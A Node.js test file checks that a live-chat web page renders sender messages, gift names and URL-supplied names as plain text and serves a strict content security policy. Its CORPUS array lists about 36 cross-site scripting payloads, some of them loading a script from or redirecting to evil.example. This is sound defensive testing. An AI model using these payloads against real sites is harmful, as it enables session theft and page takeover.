// Texts of senders are never markup: no text runs as a script or becomes an element.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { chats, launch, open } from './browser.mjs';
import { Server, until } from './server.mjs';

const CORPUS = [
  '<b>bold</b>',
  '<script>window.pwned=1</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=window.pwned=1>',
  '<img src=x onerror="alert(1)">',
  '<svg onload=window.pwned=1>',
  '<svg><script>window.pwned=1</script></svg>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="javascript:parent.pwned=1">',
  '<a href="javascript:window.pwned=1">click</a>',
  '<body onload=window.pwned=1>',
  '<input autofocus onfocus=window.pwned=1>',
  '<details open ontoggle=window.pwned=1>x</details>',
  '<video><source onerror=window.pwned=1></video>',
  '<audio src=x onerror=window.pwned=1>',
  '<marquee onstart=window.pwned=1>x</marquee>',
  '<object data="javascript:window.pwned=1">',
  '<embed src="javascript:window.pwned=1">',
  '<math><mi//xlink:href="data:x,<script>window.pwned=1</script>">',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<form action=//evil.example><button>go</button></form>',
  '<template><script>window.pwned=1</script></template>',
  '"><script>window.pwned=1</script>',
  "'><img src=x onerror=window.pwned=1>",
  '</li></ol><script>window.pwned=1</script>',
  '</script><script>window.pwned=1</script>',
  '<!--<img src="--><img src=x onerror=window.pwned=1>',
  'javascript:window.pwned=1',
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.pwned=1&#62;',
];

let server;
let browser;

before(async () => {
  server = await Server.start();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.stop();
});

test('scripts in texts, names and gifts are shown as text and never run', async () => {
  const page = await open(browser, server);
  const requests = [];
  page.on('request', (request) => requests.push(request.url()));
  const token = await server.token('mallory');
  for (const [index, text] of CORPUS.entries()) {
    const answer = await server.post(token, { type: 'chat', id: `x-${index}`, text });
    assert.equal(answer.status, 200, `${text}: ${JSON.stringify(answer)}`);
    // A held message is shown only to its sender.
    if (answer.outcome === 'broadcast') await until(`shown: ${text}`, async () => (await chats(page)).includes(text));
  }
  const shown = new Set(await chats(page));
  assert.ok(CORPUS.filter((text) => shown.has(text)).length >= 10, 'most of the corpus was shown');

  for (const [index, name] of CORPUS.slice(0, 8).entries()) {
    // Names have 1 to 40 characters: the server refuses longer ones.
    await server.post(token, { type: 'gift', id: `g-${index}`, gift: { name, count: 1 } });
    await server.post(token, { type: 'super_chat', id: `s-${index}`, text: name, amount_minor: 100, currency: 'CNY' });
  }
  await page.waitForSelector('#list .row.super');
  await page.waitForSelector('#banners .banner');

  assert.equal(await page.evaluate(() => window.pwned), undefined);
  const strangers = await page.$$eval('#list, #flight, #banners', (roots) =>
    roots.flatMap((root) =>
      [...root.querySelectorAll('script, img, iframe, object, embed, a, form, input, style, link, meta, base, video, audio, template, marquee, math, details')].map((node) => node.outerHTML),
    ),
  );
  assert.deepEqual(strangers, []);
  assert.deepEqual(requests.filter((url) => !url.startsWith(server.origin) && !url.startsWith('ws:')), []);
  assert.deepEqual(page.faults, []);
});

test('a name in a token is shown as text', async () => {
  const page = await open(browser, server, { query: `?name=${encodeURIComponent('<img src=x onerror=window.pwned=1>')}` });
  // The server may accept, clean or refuse the name; after a refusal the page uses another name.
  await page.fill('#text', 'hello from nobody');
  await page.press('#text', 'Enter');
  await until('it shows', async () => (await chats(page)).includes('hello from nobody'));
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.equal(await page.$$eval('#list img, #flight img', (found) => found.length), 0);
  assert.deepEqual(page.faults, []);
});

test('the server sends a strict content security policy with the page', async () => {
  const answer = await fetch(server.origin);
  const policy = answer.headers.get('content-security-policy') ?? '';
  assert.match(policy, /default-src 'self'/);
  assert.doesNotMatch(policy, /unsafe/);
  const page = await open(browser, server);
  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.inline = 1';
    document.body.append(script);
    return window.inline;
  });
  assert.equal(ran, undefined, 'inline script is refused');
});
